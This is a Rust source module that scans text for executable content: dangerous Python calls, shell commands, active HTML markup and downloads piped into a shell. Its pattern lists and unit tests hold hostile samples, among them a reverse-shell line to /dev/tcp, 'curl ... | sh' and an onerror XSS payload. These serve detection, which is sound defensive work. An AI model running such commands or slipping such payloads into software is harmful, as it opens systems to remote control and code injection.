//! Text that does something where it is carried out: Python, commands, markup.

use memchr::memmem;

/// Calls that reach beyond a model. Written in lower case.
const CALLS: [&str; 24] = [
    "__import__(",
    "__builtins__",
    "__subclasses__",
    "os.system(",
    "os.popen(",
    "os.exec",
    "os.spawn",
    "posix.system",
    "pty.spawn(",
    "subprocess.",
    "socket.socket(",
    "ctypes.",
    "pickle.loads(",
    "marshal.loads(",
    "importlib.import_module(",
    "shutil.rmtree(",
    "urllib.request.urlopen(",
    "compile(base64",
    "base64.b64decode(",
    "exec(",
    "eval(",
    "builtins.exec",
    "builtins.eval",
    "getattr(os",
];

/// Commands that fetch or open something. Written in lower case.
const COMMANDS: [&str; 11] = [
    "/bin/sh -",
    "/bin/bash -",
    "bash -i",
    "bash -c",
    "sh -c ",
    "/dev/tcp/",
    "nc -e",
    "powershell -",
    "powershell.exe",
    "cmd.exe /c",
    "rm -rf /",
];

/// Elements and attributes by which a page carries something out or fetches it.
const ACTIVE: [&str; 14] = [
    "<script",
    "</script",
    "<iframe",
    "<object data",
    "<embed ",
    "<svg/on",
    "<svg on",
    "javascript:",
    "onerror=",
    "onload=",
    "onmouseover=",
    "onfocus=",
    "<meta http-equiv",
    "data:text/html",
];

/// Returns the first call in a text that reaches beyond a model. The text is in lower case.
pub(crate) fn python(lower: &str) -> Option<&'static str> {
    CALLS.into_iter().find(|call| stands_alone(lower, call))
}

/// Returns the first command in a text. The text is in lower case.
pub(crate) fn command(lower: &str) -> Option<&'static str> {
    let found = COMMANDS
        .into_iter()
        .find(|command| stands_alone(lower, command));
    found.or_else(|| piped(lower))
}

/// Says whether a text holds markup that does something. The text is in lower case.
pub(crate) fn markup(lower: &str) -> bool {
    ACTIVE.iter().any(|mark| stands_alone(lower, mark))
}

/// Says whether a text fetches something and hands it to a shell.
fn piped(lower: &str) -> Option<&'static str> {
    let fetch = ["curl ", "wget "].into_iter().find_map(|word| {
        let at = memmem::find(lower.as_bytes(), word.as_bytes())?;
        lower.get(at..)
    })?;
    // A command is one line.
    let line = fetch.lines().next()?;
    let shell = [
        "| sh", "|sh", "| bash", "|bash", "| python", "|python", "| sudo",
    ];
    shell
        .into_iter()
        .any(|pipe| line.contains(pipe))
        .then_some("a download piped into a shell")
}

/// Says whether a text holds a mark that is not the tail of a longer word: `model.eval(` is no `eval(`.
fn stands_alone(lower: &str, mark: &str) -> bool {
    let word = mark.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_');
    memmem::find_iter(lower.as_bytes(), mark.as_bytes()).any(|at| {
        let before = at.checked_sub(1).and_then(|at| lower.as_bytes().get(at));
        !word
            || before
                .is_none_or(|byte| !byte.is_ascii_alphanumeric() && !matches!(byte, b'_' | b'.'))
    })
}

/// Returns the first bytes of a text, cut at a character.
pub(crate) fn head(text: &str, bytes: usize) -> &str {
    let mut end = bytes.min(text.len());
    while !text.is_char_boundary(end) {
        end = end.saturating_sub(1);
    }
    text.get(..end).unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::{command, markup, python};

    #[test]
    fn calls_are_told_from_methods_of_the_same_name() {
        assert_eq!(python("x = eval(y)"), Some("eval("));
        assert_eq!(python("import os; os.system('id')"), Some("os.system("));
        assert_eq!(python("model.eval()"), None);
        assert_eq!(python("my_exec(1)"), None);
    }

    #[test]
    fn a_download_alone_is_no_command() {
        assert!(command("curl -s http://a/b | sh").is_some());
        assert!(command("curl -o model.bin https://a/b").is_none());
        assert!(command("bash -i >& /dev/tcp/1.2.3.4/1 0>&1").is_some());
    }

    #[test]
    fn plain_markup_does_nothing() {
        assert!(markup("<script src=x>"));
        assert!(markup("<img src=x onerror=alert(1)>"));
        assert!(!markup("<p>a <b>model</b></p>"));
        assert!(!markup("javascripts: none"));
    }
}
